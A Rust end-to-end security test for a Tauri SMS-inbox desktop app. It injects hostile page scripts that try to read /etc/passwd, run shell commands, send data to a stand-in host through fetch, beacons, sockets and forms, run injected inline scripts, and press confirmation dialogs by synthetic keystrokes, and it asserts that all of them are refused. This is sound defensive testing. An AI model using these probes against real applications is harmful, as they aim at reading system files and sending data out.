//! A page that has turned against us: it goes nowhere, reaches nothing but the two commands, and what costs or tells
//! too much waits for a dialog that it cannot press.

use anyhow::{Context as _, ensure};
use serde_json::{Value, json};

use crate::elsewhere::Elsewhere;
use crate::patience::wait_until;
use crate::walk::{Sight, Walk};

/// What nobody else rings with.
const RUNG: &str = "Call this number";

/// What a script in the page may ask of the shell's parts by itself, each as it would be asked where it is allowed.
fn commands(elsewhere: &Elsewhere) -> Value {
    let url = elsewhere.url("/from-the-shell");
    json!([
        ["plugin:fs|read_text_file", { "path": "/etc/passwd" }],
        ["plugin:fs|write_text_file", { "path": "/tmp/deskbell-was-here", "contents": "x" }],
        ["plugin:shell|execute", { "program": "true", "args": [], "options": {} }],
        ["plugin:shell|open", { "path": url }],
        ["plugin:http|fetch", { "clientConfig": { "method": "GET", "url": url, "headers": [] } }],
        ["plugin:opener|open_url", { "url": url }],
        ["plugin:opener|open_path", { "path": "/etc/passwd" }],
        ["plugin:dialog|open", { "options": { "title": "Open", "multiple": false, "directory": false } }],
        ["plugin:dialog|save", { "options": { "title": "Save" } }],
        ["plugin:dialog|message", { "title": "Hello", "message": "Who are you?", "kind": "info", "buttons": "Ok" }],
        ["plugin:notification|notify", { "options": { "id": 1, "title": "Hello", "body": RUNG } }],
        ["plugin:notification|is_permission_granted", {}],
        ["plugin:window-state|save_window_state", { "flags": 1 }],
        ["plugin:window-state|filename", {}],
        ["plugin:window|close", { "label": "main" }],
        ["plugin:window|set_title", { "label": "main", "value": "Your bank" }],
        ["plugin:window|create", { "options": { "label": "other", "url": "index.html" } }],
        ["plugin:webview|create_webview_window", { "options": { "label": "other", "url": url } }],
        ["plugin:event|emit", { "event": "events", "payload": [] }],
        ["plugin:event|emit_to", { "target": { "kind": "Any" }, "event": "events", "payload": [] }],
        ["plugin:app|version", {}],
        ["plugin:path|resolve_directory", { "directory": 21 }],
        ["no_such_command", {}],
    ])
}

/// Tries each of them, and says what came of it.
const ASK_ALL: &str = r#"
const told = arguments[0];
const { invoke } = window.__TAURI_INTERNALS__;
const came = {};
(async () => {
  for (const [command, args] of COMMANDS)
    came[command] = await invoke(command, args).then(
      (answer) => `done: ${JSON.stringify(answer)}`,
      (error) => String(error),
    );
  told(came);
})();
"#;

/// How a script in the page may try to get out of it, or to run what was not built into it, and what came of each.
const TRY_ALL: &str = r#"
const told = arguments[0];
const there = (path) => ELSEWHERE + path;
const tried = {};
const held = new Set();
document.addEventListener('securitypolicyviolation', (event) => held.add(event.effectiveDirective));
const attempt = async (name, work) => {
  tried[name] = await Promise.resolve().then(work).then(
    (answer) => `done: ${JSON.stringify(answer)}`,
    () => 'refused',
  );
};
const soon = () => new Promise((_, fail) => setTimeout(() => fail(new Error('nothing happened')), 1500));
const load = (tag, set) => Promise.race([soon(), new Promise((done, fail) => {
  const element = document.createElement(tag);
  element.addEventListener('load', () => done());
  element.addEventListener('error', () => fail(new Error(tag)));
  set(element);
  document.body.append(element);
})]);
const open = (one) => Promise.race([soon(), new Promise((done, fail) => {
  one.addEventListener('open', () => done());
  one.addEventListener('error', () => fail(new Error('error')));
})]);
const ran = (work) => () => { work(); if (!window.pwned) throw new Error('it did not run'); };
(async () => {
  await attempt('no such call', () =>
    window.__TAURI_INTERNALS__.invoke('call', { name: 'no_such_call', args: {} }));
  await attempt('fetch', () => fetch(there('/fetch')));
  await attempt('fetch without asking', () => fetch(there('/fetch'), { mode: 'no-cors' }));
  await attempt('request', () => new Promise((done, fail) => {
    const request = new XMLHttpRequest();
    request.onload = done;
    request.onerror = () => fail(new Error('error'));
    request.open('POST', there('/request'));
    request.send('all of it');
  }));
  await attempt('events', () => open(new EventSource(there('/events'))));
  await attempt('socket', () => open(new WebSocket(there('/socket').replace('http', 'ws'))));
  await attempt('script', () => load('script', (one) => { one.src = there('/script.js'); }));
  await attempt('picture', () => load('img', (one) => { one.src = there('/picture.png'); }));
  await attempt('style', () => load('link', (one) => { one.rel = 'stylesheet'; one.href = there('/style.css'); }));
  await attempt('sound', () => new Promise((done, fail) => {
    const sound = new Audio(there('/sound'));
    sound.onprogress = sound.onloadedmetadata = done;
    sound.onerror = () => fail(new Error('error'));
    soon().catch(fail);
    sound.load();
  }));
  await attempt('file', () => fetch('file:///etc/passwd'));
  await attempt('inline script', ran(() => {
    const script = document.createElement('script');
    script.textContent = 'window.pwned = 1';
    document.body.append(script);
  }));
  await attempt('handler', ran(() => {
    const one = document.createElement('div');
    one.setAttribute('onclick', 'window.pwned = 1');
    one.click();
  }));
  await attempt('eval', () => (0, eval)('1'));
  await attempt('window', () => { if (!window.open(there('/window'))) throw new Error('none'); });
  // These tell nobody how they ended: whether they got there is seen there.
  navigator.sendBeacon(there('/beacon'), 'all of it');
  const frame = document.createElement('iframe');
  frame.src = there('/frame');
  const form = document.createElement('form');
  form.action = there('/form');
  form.method = 'post';
  const links = ['', '_blank', 'other'].map((target) => {
    const link = document.createElement('a');
    link.href = there('/link');
    link.target = target;
    return link;
  });
  const saved = document.createElement('a');
  saved.href = there('/saved');
  saved.download = 'saved';
  const early = ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload'].map((rel) => {
    const link = document.createElement('link');
    link.rel = rel;
    link.as = 'image';
    link.href = there('/early');
    return link;
  });
  const all = [frame, form, ...links, saved, ...early];
  document.body.append(...all);
  form.submit();
  for (const link of [...links, saved]) link.click();
  await soon().catch(() => {});
  for (const one of all) one.remove();
  told({ tried, held: [...held].sort() });
})();
"#;

/// Which of the page's own rules have to hold something back: the window reaches no network, so to fail is not enough.
const HELD: [&str; 7] =
    ["connect-src", "form-action", "frame-src", "img-src", "media-src", "script-src-elem", "style-src-elem"];

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs a desktop"]
async fn a_page_that_turned_against_us_reaches_nothing_and_goes_nowhere() -> anyhow::Result<()> {
    let elsewhere = Elsewhere::open().await?;
    let mut walk = Walk::begin("hostile").await?;

    walk.step("there is an inbox to attack", async |walk| {
        walk.start(&[]).await?;
        let window = walk.window()?;
        window.press("Start practising").await?;
        window.see("Practice line: nobody real gets these texts").await
    })
    .await?;

    walk.step("the page may ask the two commands and nothing else", async |walk| {
        ensure!(
            call(walk, "read_counts", json!({})).await.is_ok(),
            "it cannot ask at all: this proves nothing"
        );
        let commands = commands(&elsewhere);
        let all = ASK_ALL.replace("COMMANDS", &commands.to_string());
        let came = walk.window()?.tell(&all).await?;
        let came = came.as_object().map(|came| came.iter().collect::<Vec<_>>()).unwrap_or_default();
        ensure!(Some(came.len()) == commands.as_array().map(Vec::len), "not all was tried: {came:?}");
        // Because the access list says so, and not because something is amiss with what was asked.
        let others: Vec<_> = came
            .iter()
            .filter(|(_, how)| !how.as_str().is_some_and(|how| how.contains("not allowed")))
            .collect();
        ensure!(others.is_empty(), "these were not refused by the access list: {others:?}");
        walk.wait_until_window(Sight::Shown).await?;
        let rang = format!("{:?}", walk.desktop.notifications.so_far());
        ensure!(!rang.contains(RUNG), "it rang: {rang}");
        nobody_came(&elsewhere)
    })
    .await?;

    walk.step("no script in it gets out or runs what was not built into it", async |walk| {
        let window = walk.window()?;
        let all = TRY_ALL.replace("ELSEWHERE", &json!(elsewhere.url("")).to_string());
        let told = window.tell(&all).await?;
        let tried = told.get("tried").and_then(Value::as_object).context("what was tried")?;
        ensure!(tried.len() == 15, "not all was tried: {told}");
        let held = told.get("held").and_then(Value::as_array).context("what was held back")?;
        let is_held = |rule: &&str| held.contains(&json!(rule));
        ensure!(HELD.iter().all(is_held), "held back only by these rules: {held:?}");
        let done: Vec<_> = tried.iter().filter(|(_, how)| **how != "refused").collect();
        ensure!(done.is_empty(), "these were not refused: {done:?}");
        nobody_came(&elsewhere)?;
        window.see("Practice line: nobody real gets these texts").await
    })
    .await?;

    // No network leads to the first two; the others would be drawn, if anybody let the page go.
    let (there, ours) = (elsewhere.url("/navigation"), "tauri://localhost/");
    for to in [there.as_str(), "https://example.com/", "file:///etc/passwd", "data:text/html,hello"] {
        let name = to.replace(&elsewhere.url("/"), "elsewhere ").replace(['/', ':'], " ");
        walk.step(&format!("it does not go to {name}"), async |walk| {
            let window = walk.window()?;
            let go = format!(
                "const told = arguments[0]; location.href = {}; setTimeout(() => told(location.href), 1500);",
                json!(to)
            );
            let now = window.tell(&go).await?;
            ensure!(now.as_str().is_some_and(|now| now.starts_with(ours)), "the page is at {now}");
            nobody_came(&elsewhere)?;
            window.see("Practice line: nobody real gets these texts").await
        })
        .await?;
    }

    for (name, args) in [
        ("export_contacts", json!({})),
        ("download_backup", json!({})),
        (
            "change_retention",
            json!({ "retention": { "texts": { "days": 7, "atTwilio": "leave" }, "pictures": {} } }),
        ),
    ] {
        walk.step(&format!("{name} waits for a dialog that the page cannot press"), async |walk| {
            ask_and_press(walk, name, &args).await?;
            walk.press_in_dialog("Escape").await?;
            wait_for_answer(walk, "refused").await
        })
        .await?;
    }

    walk.step("a number that can be had is not bought without the dialog", async |walk| {
        let numbers = our_numbers(walk).await?;
        let wish =
            json!({ "country": "US", "kind": "local", "can": { "sms": true, "mms": false, "voice": false } });
        let found = call(walk, "search_numbers", wish).await?;
        let number = found.pointer("/numbers/0/number").cloned().unwrap_or_default();
        ensure!(number.is_string(), "no number can be had: {found}");
        let buy = json!({ "number": number, "intent": "00000000-0000-4000-8000-000000000001" });
        ask_and_press(walk, "buy_number", &buy).await?;
        walk.press_in_dialog("Escape").await?;
        wait_for_answer(walk, "refused").await?;
        let bought = call(walk, "list_purchases", json!({})).await?;
        ensure!(bought == json!([]), "it was bought: {bought}");
        ensure!(our_numbers(walk).await? == numbers, "there is another number");
        // The same words, with a person's yes: so nothing but their no kept it from being bought.
        ask_and_press(walk, "buy_number", &buy).await?;
        walk.press_in_dialog("Return").await?;
        wait_for_answer(walk, "done").await?;
        let bought = call(walk, "list_purchases", json!({})).await?;
        ensure!(bought.pointer("/0/number") == Some(&number), "a yes does not buy it: {bought}");
        Ok(())
    })
    .await?;

    nobody_came(&elsewhere)?;
    walk.quit().await
}

fn nobody_came(elsewhere: &Elsewhere) -> anyhow::Result<()> {
    let came = elsewhere.came();
    ensure!(came.is_empty(), "the page got out: {came:?}");
    Ok(())
}

/// What a script in the page is answered by the core.
async fn call(walk: &Walk, name: &str, args: Value) -> anyhow::Result<Value> {
    let ask = format!(
        "const told = arguments[0];
         window.__TAURI_INTERNALS__.invoke('call', {{ name: {}, args: {args} }})
            .then((answer) => told({{ answer }}), (error) => told({{ error: JSON.stringify(error) }}));",
        json!(name)
    );
    let mut told = walk.window()?.tell(&ask).await?;
    ensure!(told.get("error").is_none(), "{name}: {told}");
    Ok(told.get_mut("answer").map(Value::take).unwrap_or_default())
}

/// The numbers that the office has.
async fn our_numbers(walk: &Walk) -> anyhow::Result<Vec<Value>> {
    let rows = call(walk, "list_numbers", json!({})).await?;
    let number = |row: &Value| row.get("number").cloned().unwrap_or_default();
    Ok(rows.as_array().into_iter().flatten().map(number).collect())
}

/// Asks for something by script, waits for the dialog, and presses whatever a page can press.
async fn ask_and_press(walk: &Walk, name: &str, args: &Value) -> anyhow::Result<()> {
    let ask = format!(
        "window.answered = 'waits';
         window.__TAURI_INTERNALS__.invoke('call', {{ name: {}, args: {args} }})
            .then(() => (window.answered = 'done'), () => (window.answered = 'refused'));
         arguments[0](true);",
        json!(name)
    );
    walk.window()?.tell(&ask).await?;
    walk.wait_for_dialog().await?;
    // Whatever the page presses, it presses in itself.
    let press = "for (const key of ['Enter', ' ', 'Tab', 'y'])
            document.activeElement.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true }));
         arguments[0](window.answered);";
    let answered = walk.window()?.tell(press).await?;
    ensure!(answered == json!("waits"), "{name} is {answered}");
    walk.wait_for_dialog().await
}

async fn wait_for_answer(walk: &Walk, wanted: &str) -> anyhow::Result<()> {
    wait_until(format!("it to be {wanted}"), async || {
        let answered = walk.window()?.tell("arguments[0](window.answered)").await?;
        ensure!(answered == json!(wanted), "it is {answered}");
        Ok(())
    })
    .await
}
